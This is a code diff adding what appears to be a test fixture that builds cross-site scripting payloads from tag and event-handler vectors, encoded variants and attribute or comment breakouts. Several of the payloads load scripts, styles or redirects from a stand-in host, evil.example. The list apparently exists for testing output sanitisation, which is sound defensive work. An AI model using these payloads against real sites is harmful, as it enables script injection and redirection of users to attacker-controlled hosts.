@@ -1,0 +1,56 @@
+/** What somebody may have written into a name, a value, a list or an error, to run in somebody else's browser. */
+const VECTORS: readonly string[] = [
+  "<script>top.hit=1</script>",
+  "<script src=//evil.example/x.js></script>",
+  "<ScRiPt >top.hit=1</sCrIpT >",
+  "<img src=x onerror=top.hit=1>",
+  "<img/src='x'/onerror=top.hit=1>",
+  "<svg onload=top.hit=1>",
+  "<svg><script>top.hit=1</script></svg>",
+  "<svg><animate onbegin=top.hit=1 attributeName=x dur=1s>",
+  "<body onload=top.hit=1>",
+  "<iframe src=javascript:top.hit=1></iframe>",
+  "<iframe srcdoc='<script>top.hit=1</script>'></iframe>",
+  "<object data=javascript:top.hit=1></object>",
+  "<embed src=javascript:top.hit=1>",
+  "<a href=javascript:top.hit=1>x</a>",
+  "<details open ontoggle=top.hit=1>",
+  "<input autofocus onfocus=top.hit=1>",
+  "<select autofocus onfocus=top.hit=1>",
+  "<video><source onerror=top.hit=1></video>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=top.hit=1>",
+  "<noscript><p title='</noscript><img src=x onerror=top.hit=1>'>",
+  "<style>@import '//evil.example/x.css';</style>",
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<meta http-equiv=refresh content=0;url=//evil.example>",
+  "<base href=//evil.example/>",
+  "<form action=//evil.example><button>x</button></form>",
+  "<marquee onstart=top.hit=1>",
+  "<template><script>top.hit=1</script></template>",
+  "<x onclick=top.hit=1 tabindex=1 autofocus onfocus=top.hit=1>",
+  "&lt;script&gt;top.hit=1&lt;/script&gt;",
+  "&#60;script&#62;top.hit=1&#60;/script&#62;",
+  "\\u003cscript\\u003etop.hit=1",
+  "%3Cscript%3Etop.hit=1%3C/script%3E",
+  "javascript:top.hit=1",
+  "data:text/html,<script>top.hit=1</script>",
+  "{{constructor.constructor('top.hit=1')()}}",
+  "${top.hit=1}",
+];
+
+/** What stands before and behind: out of an attribute, a comment, a text area, a title, a script. */
+const AROUND: readonly (readonly [string, string])[] = [
+  ["", ""],
+  ['"', ""],
+  ["'", ""],
+  ['">', "<!--"],
+  ["'>", "<x y='"],
+  ["-->", "<!--"],
+  ["</textarea></title></style></script>", ""],
+  ["`", "`"],
+  ["\u202e\ufeff", "\u2028\u2029"],
+];
+
+export const PAYLOADS: readonly string[] = VECTORS.flatMap((vector) =>
+  AROUND.map(([before, behind]) => `${before}${vector}${behind}`),
+);
